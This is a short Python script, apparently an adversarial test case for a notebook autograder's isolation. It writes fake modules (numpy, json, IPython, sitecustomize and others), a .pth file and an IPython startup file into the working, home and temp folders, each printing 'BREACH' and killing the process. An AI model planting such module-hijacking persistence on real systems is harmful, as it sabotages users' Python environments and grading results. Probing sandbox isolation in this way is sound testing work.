"""Leaves modules and start-up files beside the notebook, then ends its process.

The one that replaces it runs the earlier cells again, in the same folder or not.

place: start
honest: affine 0, halve 3, q_linear 1
"""

import os
from pathlib import Path

TEXT = "print('BREACH', __name__)\nimport os\nos._exit(0)\n"
names = (
    "numpy",
    "copy",
    "base64",
    "json",
    "cs231n_lib",
    "sitecustomize",
    "usercustomize",
    "IPython",
)
for folder in (Path.cwd(), Path.home(), Path(os.environ.get("TMPDIR", "."))):
    for name in names:
        (folder / f"{name}.py").write_text(TEXT)
    (folder / "red.pth").write_text("import os; os._exit(0)\n")
startup = Path.home() / "ipython" / "profile_default" / "startup"
startup.mkdir(parents=True)
(startup / "00.py").write_text(TEXT)
os._exit(0)
